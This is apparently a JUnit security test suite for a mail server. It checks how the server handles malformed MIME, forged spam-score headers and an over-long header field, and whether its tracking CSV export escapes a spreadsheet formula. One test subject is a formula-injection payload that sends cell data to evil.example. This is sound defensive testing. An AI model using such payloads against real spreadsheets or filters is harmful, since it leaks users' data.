package io.portcullis.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.james.utils.TestIMAPClient;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.portcullis.dns.TestDnsServer;
import io.portcullis.server.PortcullisTestServer;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;

/**
 * Hostile mail over SMTP on the bundled server: values that once made a store write fail, malformed MIME, forged
 * gateway headers and spreadsheet formulas. Every message accepted with 250 is delivered or held (stalled) and
 * tracked with that status, nothing reaches var/mail/error, nothing is sent to the (forged) sender, held raw bytes
 * are the bytes sent, gateway headers from outside never reach a mailbox, and CSV cells are never formulas.
 */
class HostileMailFlowTest {
    private static final String BOB = "bob@acme.test";
    private static final String BOB_PASSWORD = "bob-Pass-1";
    private static final String CAROL = "carol@acme.test";
    private static final String CAROL_PASSWORD = "carol-Pass-1";

    @TempDir
    static Path dir;
    static TestDnsServer dns;
    static PortcullisTestServer server;

    @BeforeAll
    static void start() throws Exception {
        dns = TestDnsServer.start().a("remote.example", "192.0.2.10");
        server = PortcullisTestServer.prepareWithChecksDns(dir, dns.port(), PortcullisTestServer.NO_RELAY_NETWORK).start();
        server.addDomain("acme.test");
        server.addUser(BOB, BOB_PASSWORD);
        server.addUser(CAROL, CAROL_PASSWORD);
    }

    @AfterAll
    static void stop() {
        server.stop();
        dns.close();
    }

    // ------------------------------------------------------------------ messages

    private static byte[] bytes(String latin1) {
        return latin1.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static String headers(String sender, String subject) {
        return "From: " + sender + "\r\nTo: " + BOB + "\r\nSubject: " + subject + "\r\nMessage-ID: <" + subject.hashCode() + "@remote.example>\r\n"
            + "MIME-Version: 1.0\r\n";
    }

    static byte[] quoteAttachment(String sender) {
        return bytes(headers(sender, "quote-attachment") + "Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n"
            + "--outer\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
            + "--outer\r\nContent-Type: text/plain; name=\"notes.txt\"\r\nContent-Disposition: attachment; filename=\""
            + ("\\\"".repeat(30) + "\r\n ").repeat(150) + ".txt\"\r\n\r\nhello\r\n--outer--\r\n");
    }

    static byte[] nested25(String sender) {
        StringBuilder body = new StringBuilder(headers(sender, "nested-25"));
        for (int level = 0; level < 25; level++) {
            body.append(level == 0 ? "" : "--b" + (level - 1) + "\r\n");
            body.append("Content-Type: multipart/mixed; boundary=\"b").append(level).append("\"\r\n\r\n");
        }
        body.append("--b24\r\nContent-Type: text/plain\r\n\r\nnever closed\r\n");
        return bytes(body.toString());
    }

    static byte[] badBoundary(String sender) {
        return bytes(headers(sender, "bad-boundary") + "Content-Type: multipart/mixed; boundary=\"declared\"\r\n\r\n"
            + "--other\r\nContent-Type: text/plain\r\n\r\nwrong boundary\r\n--other--\r\n");
    }

    static byte[] truncatedBase64(String sender) {
        return bytes(headers(sender, "truncated-base64") + "Content-Type: multipart/mixed; boundary=\"t\"\r\n\r\n"
            + "--t\r\nContent-Type: text/plain\r\n\r\nreport attached\r\n"
            + "--t\r\nContent-Type: application/pdf; name=\"r.pdf\"\r\nContent-Transfer-Encoding: base64\r\n"
            + "Content-Disposition: attachment; filename=\"r.pdf\"\r\n\r\nJVBERi0xLjQKJcfsj6IKNSAwIG9iago8PC9MZW5ndGggNiAwIFI+Pgpz\r\ndHJlY");
    }

    static byte[] nulBytes(String sender) {
        return bytes(headers(sender, "nul-bytes") + "Content-Type: text/plain\r\n\r\nbefore\u0000\u0000after\r\nline\u0000two\r\n");
    }

    static byte[] eightBitHeaders(String sender) {
        return bytes("From: Ren\u00e9 \u00c9t\u00e9 <" + sender + ">\r\nTo: " + BOB + "\r\nSubject: eight-bit caf\u00e9 \u00ff\u0080\r\n"
            + "Message-ID: <8bit@remote.example>\r\nContent-Type: text/plain\r\n\r\nr\u00e9sum\u00e9\r\n");
    }

    // ------------------------------------------------------------------ observations

    private static JsonPath trackedFrom(String sender) {
        return server.webAdmin().queryParam("sender", sender).get("/portcullis/tracking").then().statusCode(200).extract().jsonPath();
    }

    /** The tracked status of the one message from {@code sender}, once it is no longer processing. */
    private static String finalStatus(String sender) {
        return await().atMost(Duration.ofSeconds(60)).until(() -> {
            JsonPath found = trackedFrom(sender);
            return found.getInt("total") == 1 ? found.getString("messages[0].status") : null;
        }, status -> status != null && !status.equals("processing"));
    }

    private static List<Object> errorRepository() {
        Response response = server.webAdmin().urlEncodingEnabled(false).get("/mailRepositories/var%2Fmail%2Ferror%2F/mails");
        return response.statusCode() == 404 ? List.of() : response.then().statusCode(200).extract().jsonPath().getList("$");
    }

    private static int trackedTo(String recipient) {
        return server.webAdmin().queryParam("recipient", recipient).get("/portcullis/tracking").then().statusCode(200)
            .extract().jsonPath().getInt("total");
    }

    private static JsonPath stalled(String sender) {
        return server.webAdmin().queryParam("area", "stalled").queryParam("recipient", BOB).get("/portcullis/quarantine")
            .then().statusCode(200).extract().jsonPath().setRootPath("items.find { it.sender == '" + sender + "' }");
    }

    private static byte[] raw(String entryId) {
        return server.webAdmin().get("/portcullis/quarantine/" + entryId + "/raw").then().statusCode(200).extract().asByteArray();
    }

    private static String carolsFirstMessage() throws Exception {
        try (TestIMAPClient imap = new TestIMAPClient()) {
            imap.connect("127.0.0.1", server.imapPort()).login(CAROL, CAROL_PASSWORD).select(TestIMAPClient.INBOX);
            return imap.getMessageCount(TestIMAPClient.INBOX) == 0 ? null : imap.readFirstMessage();
        }
    }

    // ------------------------------------------------------------------ tests

    @Test
    void quoteFilledAttachmentNameShouldBeTrackedAndNeverBounceToTheForgedSender() throws Exception {
        String forged = "victim-quotes@sink.example";

        assertThat(RawSmtp.send(server.smtpPort(), forged, BOB, quoteAttachment(forged))).startsWith("250");

        assertThat(finalStatus(forged)).isIn("delivered", "held");
        String trackingId = trackedFrom(forged).getString("messages[0].trackingId");
        JsonPath detail = server.webAdmin().get("/portcullis/tracking/" + trackingId).then().statusCode(200).extract().jsonPath();
        assertThat(detail.getList("events.type")).contains("RECEIVED_BY_MTA").doesNotContain("PLACED_IN_PROBLEM_AREA");
        assertThat(detail.getList("message.attachments").toString()).contains("\"\"\"\"\"");
        Thread.sleep(3000);
        assertThat(errorRepository()).isEmpty();
        assertThat(trackedTo(forged)).isZero();
    }

    @Test
    void malformedMailShouldBeDeliveredOrHeldAsStalledFromItsRawBytesAndTrackedSo() throws Exception {
        Map<String, byte[]> messages = new LinkedHashMap<>();
        messages.put("nested@remote.example", nested25("nested@remote.example"));
        messages.put("boundary@remote.example", badBoundary("boundary@remote.example"));
        messages.put("base64@remote.example", truncatedBase64("base64@remote.example"));
        messages.put("nul@remote.example", nulBytes("nul@remote.example"));
        messages.put("eightbit@remote.example", eightBitHeaders("eightbit@remote.example"));
        for (Map.Entry<String, byte[]> message : messages.entrySet()) {
            assertThat(RawSmtp.send(server.smtpPort(), message.getKey(), BOB, message.getValue())).as(message.getKey()).startsWith("250");
        }

        StringBuilder seen = new StringBuilder();
        for (Map.Entry<String, byte[]> message : messages.entrySet()) {
            String status = finalStatus(message.getKey());
            seen.append(message.getKey()).append(' ').append(status).append('\n');
            assertThat(status).as(message.getKey()).isIn("delivered", "held");
            if (status.equals("held")) {
                JsonPath held = stalled(message.getKey());
                assertThat(held.getString("id")).as(message.getKey() + " held as stalled").isNotNull();
                String raw = new String(raw(held.getString("id")), StandardCharsets.ISO_8859_1);
                String sent = new String(withFinalCrlf(message.getValue()), StandardCharsets.ISO_8859_1);
                int headerEnd = sent.indexOf("\r\n\r\n");
                assertThat(raw).as(message.getKey() + " body as sent").endsWith(sent.substring(headerEnd));
                for (String header : sent.substring(0, headerEnd).split("\r\n")) {
                    assertThat(raw).as(message.getKey() + " header as sent").contains(header + "\r\n");
                }
            }
        }
        System.out.println("Malformed mail outcomes:\n" + seen);
        assertThat(errorRepository()).isEmpty();
    }

    private static byte[] withFinalCrlf(byte[] message) {
        String text = new String(message, StandardCharsets.ISO_8859_1);
        if (text.endsWith("\r\n")) {
            return message;
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(message);
        out.writeBytes("\r\n".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    @Test
    void gatewayHeadersFromOutsideShouldNotReachTheMailboxNorLowerTheScore() throws Exception {
        String sender = "forger@remote.example";
        byte[] message = bytes(headers(sender, "forged-gateway-headers") + "X-Portcullis-Score: -100\r\nX-Portcullis-Report: true\r\n"
            + "x-portcullis-reasons: trusted\r\nContent-Type: text/plain\r\n\r\nXJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X\r\n");
        byte[] clean = bytes(headers("plain@remote.example", "forged-gateway-headers-clean") + "X-Portcullis-Score: -100\r\n"
            + "X-Portcullis-Report: true\r\nContent-Type: text/plain\r\n\r\nhello bob\r\n");

        assertThat(RawSmtp.send(server.smtpPort(), sender, BOB, message)).startsWith("250");
        assertThat(RawSmtp.send(server.smtpPort(), "plain@remote.example", CAROL, clean)).startsWith("250");

        assertThat(finalStatus(sender)).as("GTUBE still held: the forged score lowered nothing").isEqualTo("held");
        assertThat(finalStatus("plain@remote.example")).isEqualTo("delivered");
        String delivered = await().atMost(Duration.ofSeconds(30)).until(HostileMailFlowTest::carolsFirstMessage,
            m -> m != null && m.contains("hello bob"));
        assertThat(delivered).contains("forged-gateway-headers-clean");
        assertThat(delivered.toLowerCase(Locale.ROOT)).doesNotContain("x-portcullis-score").doesNotContain("x-portcullis-report");
    }

    @Test
    void mailTheMailboxCannotStoreShouldBeHeldAsStalledAndTrackedSoWhenAHeaderFieldIsTooLongForIt() throws Exception {
        String sender = "long-description@remote.example";
        // The mailbox database keeps a top-level Content-Description in 1,024 characters: this one cannot be stored.
        byte[] message = bytes(headers(sender, "long-content-description") + "Content-Type: text/plain\r\nContent-Description: "
            + "d".repeat(3000) + "\r\n\r\nhello bob\r\n");

        assertThat(RawSmtp.send(server.smtpPort(), sender, BOB, message)).startsWith("250");

        assertThat(finalStatus(sender)).isEqualTo("held");
        JsonPath held = stalled(sender);
        assertThat(held.getString("id")).as("held as stalled").isNotNull();
        assertThat(new String(raw(held.getString("id")), StandardCharsets.ISO_8859_1)).contains("d".repeat(3000)).endsWith("hello bob\r\n");
        String trackingId = trackedFrom(sender).getString("messages[0].trackingId");
        JsonPath detail = server.webAdmin().get("/portcullis/tracking/" + trackingId).then().statusCode(200).extract().jsonPath();
        assertThat(detail.getList("events.type")).contains("HELD").doesNotContain("DELIVERED_LOCALLY", "PLACED_IN_PROBLEM_AREA");
        assertThat(held.getString("unscannableReason")).contains("Content-Description");
        assertThat(errorRepository()).isEmpty();
        assertThat(trackedTo(sender)).isZero();
    }

    @Test
    void trackingCsvShouldNeverHoldAFormulaCell() throws Exception {
        String sender = "formula@remote.example";
        String subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
        assertThat(RawSmtp.send(server.smtpPort(), sender, BOB, bytes(headers(sender, subject) + "Content-Type: text/plain\r\n\r\nhi\r\n")))
            .startsWith("250");
        finalStatus(sender);

        String csv = server.webAdmin().queryParam("sender", sender).get("/portcullis/tracking.csv").then().statusCode(200).extract().asString();

        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build().parse(new StringReader(csv)).getRecords();
        assertThat(records).hasSize(1);
        assertThat(records.get(0).get("Subject")).isEqualTo("'" + subject);
    }
}
